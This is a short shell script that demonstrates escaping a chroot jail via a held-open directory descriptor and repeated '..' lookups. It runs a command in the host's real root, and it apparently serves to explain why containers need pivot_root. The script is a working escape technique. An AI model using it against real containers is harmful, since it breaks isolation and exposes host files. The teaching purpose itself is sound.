#!/bin/sh
# chroot-escape.sh COMMAND [ARG...]: escapes from a chroot(2) jail and runs COMMAND in the real
# root of the machine, to show why a container needs pivot_root(2). Run it as root in a
# container, e.g. with the file copied into the image's directory:
#
#     sh /chroot-escape.sh ls /
#
# chroot changes where "/" is for one process's path lookups, and nothing else. The kernel
# stops ".." at that root, but only AT it: a process whose working directory (or any directory
# it holds open) lies outside its root can climb up past the root with "..". So:
#   1. hold the current root open as fd 3;
#   2. chroot into a subdirectory, a jail: now fd 3 is outside the process's root;
#   3. in the jail, /proc/self/fd/3 leads to that directory, and enough ".." from there reach
#      the top of the mount namespace: chroot there and run COMMAND.
# In a chroot container, the top is the host's root: the escape works. After pivot_root, the
# top is the image's root, because the host's root is not mounted anywhere in the container:
# there is nothing to escape to, and COMMAND sees the container's files.
set -e
jail=$(mktemp -d /tmp/jail.XXXXXX)
mkdir "$jail/bin" "$jail/proc"
mount --bind /bin "$jail/bin"
mount -t proc proc "$jail/proc"
up=/proc/self/fd/3
for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22 23 24 25 26 27 28 29 30; do
    up="$up/.."
done
status=0
# In the jail, /bin is the image's /bin, busybox and all.
chroot "$jail" /bin/busybox chroot "$up" "$@" 3< / || status=$?
umount "$jail/proc"
umount "$jail/bin"
rmdir "$jail/bin" "$jail/proc" "$jail"
exit $status
